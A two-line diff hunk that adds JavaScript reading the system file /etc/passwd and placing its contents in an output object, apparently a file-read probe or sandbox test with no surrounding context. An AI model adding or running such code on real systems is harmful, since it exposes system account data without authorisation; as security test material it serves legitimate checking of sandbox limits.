@@ -1,0 +1,2 @@
+const fs = require('fs');
+output = { text: fs.readFileSync('/etc/passwd', 'utf8') };
